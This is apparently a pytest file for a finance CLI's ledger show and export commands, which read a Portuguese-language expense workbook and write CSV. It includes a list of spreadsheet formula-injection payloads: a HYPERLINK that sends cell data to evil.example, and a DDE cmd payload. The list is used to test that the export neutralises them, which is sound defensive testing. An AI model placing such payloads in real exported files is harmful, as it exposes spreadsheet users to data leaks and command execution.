"""`finassist ledger show|export` on a local workbook, through the CLI's own entry point."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from finassist.adapters.xlsx_ledger import XlsxLedger
from finassist.cli import main
from finassist.domain.csv_cells import FORMULA_TRIGGERS
from finassist.domain.expense import COLUMNS, Expense, LedgerRow


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    path = tmp_path / "Financas.xlsx"
    ledger = XlsxLedger(path)
    ledger.append(Expense(date(2026, 11, 24), "Alimentação", "Almoço", Decimal("45.10"), "com a equipe"), "SM1:c1")
    ledger.append(Expense(date(2026, 11, 3), "Transporte", "Uber", Decimal("1234.56")), "SM2:c1")
    ledger.append(Expense(date(2026, 11, 25), "Alimentação", "Café", Decimal("0.20")), "SM3:c1")
    ledger.append(Expense(date(2026, 10, 31), "Lazer", "Cinema", Decimal("30.00")), "SM4:c1")
    return path


def test_ledger_show_prints_the_months_rows_by_date_and_totals_by_category_in_reais(
    workbook: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["ledger", "show", "--file", str(workbook), "--month", "2026-11"]) == 0

    out = capsys.readouterr().out
    lines = out.splitlines()
    assert lines[0] == "Despesas (11/2026): 3 lançamento(s)"
    assert "03/11/2026" in lines[1] and "Uber" in lines[1] and "R$ 1.234,56" in lines[1]
    assert "24/11/2026" in lines[2] and "Almoço (com a equipe)" in lines[2] and "R$ 45,10" in lines[2]
    assert "Cinema" not in out
    totals = lines[lines.index("Totais por categoria:") + 1 :]
    assert [line.split() for line in totals[:2]] == [["Transporte", "R$", "1.234,56"], ["Alimentação", "R$", "45,30"]]
    assert lines[-1] == "Total: R$ 1.279,86"


def test_ledger_show_without_a_month_covers_every_row(workbook: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["ledger", "show", "--file", str(workbook)]) == 0

    out = capsys.readouterr().out
    assert "4 lançamento(s)" in out and "Cinema" in out
    assert out.splitlines()[-1] == "Total: R$ 1.309,86"


def test_ledger_show_on_a_missing_file_says_so_and_creates_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nada.xlsx"

    assert main(["ledger", "show", "--file", str(missing)]) == 1

    assert "no workbook" in capsys.readouterr().err
    assert not missing.exists()


def test_a_month_that_is_not_yyyy_mm_is_refused(workbook: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["ledger", "show", "--file", str(workbook), "--month", "novembro"])
    assert "expected YYYY-MM" in capsys.readouterr().err


def test_ledger_export_writes_the_months_rows_to_a_csv_that_loads_back_into_a_workbook(
    workbook: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out_csv = tmp_path / "novembro.csv"

    assert main(["ledger", "export", "--file", str(workbook), "--csv", str(out_csv), "--month", "2026-11"]) == 0

    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0] == list(COLUMNS)
    assert table[1:] == [
        ["2026-11-03", "Transporte", "Uber", "1234.56", "", "SM2:c1"],
        ["2026-11-24", "Alimentação", "Almoço", "45.10", "com a equipe", "SM1:c1"],
        ["2026-11-25", "Alimentação", "Café", "0.20", "", "SM3:c1"],
    ]
    assert "3 linha(s)" in capsys.readouterr().out
    copy = XlsxLedger.from_csv(tmp_path / "copia.xlsx", out_csv)
    assert copy.rows()[1] == LedgerRow(
        Expense(date(2026, 11, 24), "Alimentação", "Almoço", Decimal("45.10"), "com a equipe"), "SM1:c1"
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_ledger_export_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula_and_reads_back_the_same_text(
    tmp_path: Path, formula: str
) -> None:
    path = tmp_path / "Financas.xlsx"
    XlsxLedger(path).append(Expense(date(2026, 11, 24), "Outros", formula, Decimal("10.00"), formula), "SM9:c1")
    out_csv = tmp_path / "out.csv"

    assert main(["ledger", "export", "--file", str(path), "--csv", str(out_csv)]) == 0

    stored = XlsxLedger(path).rows()[0].expense.description  # the workbook keeps no leading tab or CR
    raw = out_csv.read_text(encoding="utf-8-sig")
    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
        [_, row] = list(csv.reader(handle))
    assert stored.startswith(FORMULA_TRIGGERS)
    assert row[2] == row[4] == "'" + stored, "a leading quote makes the spreadsheet show text"
    assert raw.splitlines()[1].startswith('"2026-11-24","Outros","\'')
    copy = XlsxLedger.from_csv(tmp_path / "copia.xlsx", out_csv)
    assert [(r.expense.description, r.expense.notes) for r in copy.rows()] == [(stored, stored)]


def test_ledger_export_leaves_ordinary_text_and_amounts_alone(workbook: Path, tmp_path: Path) -> None:
    out_csv = tmp_path / "all.csv"

    assert main(["ledger", "export", "--file", str(workbook), "--csv", str(out_csv)]) == 0

    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert not any(cell.startswith("'") for row in rows for cell in row)
